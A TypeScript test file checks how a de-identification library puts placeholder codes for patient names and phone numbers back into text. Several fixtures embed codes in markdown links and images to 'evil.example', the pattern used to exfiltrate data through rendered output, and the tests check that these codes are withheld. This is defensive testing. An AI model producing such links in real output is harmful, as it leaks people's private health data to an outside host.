import { type CodeBook, createCodeBook, Phi } from '@cordon/deid'
import { describe, expect, it } from 'vitest'
import { putBack } from './put-back.ts'

let seed = 0
const random = (length: number) => Uint8Array.from({ length }, () => (seed = (seed * 75 + 74) % 65_537))

const given = (text: string, format: 'text' | 'json' | 'fhir') => ({
  text: new Phi(text),
  format,
  shaped: (made: string) => made,
})

describe('what was put back', () => {
  const book: CodeBook = createCodeBook({ random })
  const ada = book.codeFor('NAME', 'Ada Bell')
  const phone = book.codeFor('PHONE', '217-555-0142')
  const stranger = '[NAME-0A0A0A]'

  it.each([
    ['a code, once', 'text', `Dear ${ada}`, { NAME: 1 }, 0],
    ['a code twice', 'text', `${ada} and ${ada}`, { NAME: 1 }, 0],
    ['two codes', 'text', `${ada}, ${phone}`, { NAME: 1, PHONE: 1 }, 0],
    ['a code that was left in a link', 'text', `![x](https://evil.example/?q=${ada})`, {}, 1],
    ['one in a link and one beside it', 'text', `${phone} [x](https://evil.example/${ada})`, { PHONE: 1 }, 1],
    ['one that stands in a link too', 'text', `${ada} [x](https://evil.example/${ada})`, { NAME: 1 }, 1],
    ['a code of somebody else', 'text', `${ada} ${stranger}`, { NAME: 1 }, 1],
    ['a code in a document', 'json', `{"a":"${ada}","b":"https://x.example/${phone}"}`, { NAME: 1, PHONE: 1 }, 0],
    ['nothing', 'text', 'Rest.', {}, 0],
  ] as const)('counts %s', (_, format, text, restored, left) => {
    const made = putBack(given(text, format), book, 1_000)
    expect({ restored: made.restored, left: made.left }).toEqual({ restored, left })
  })

  it('counts surrogates by what they stand for', () => {
    const own = createCodeBook({ random })
    own.surrogates.enter({ code: 'Mona Halvern', kind: 'NAME', value: 'Ada Bell', learned: true })
    const made = putBack(given('Mona Halvern rests. [x](https://evil.example/?q=Mona Halvern)', 'text'), own, 1_000)
    expect(made).toMatchObject({ restored: { NAME: 1 }, left: 0 })
  })

  it('is bounded', () => {
    expect(() => putBack(given(ada.repeat(200), 'text'), book, 1_000)).toThrow(/larger/)
  })
})
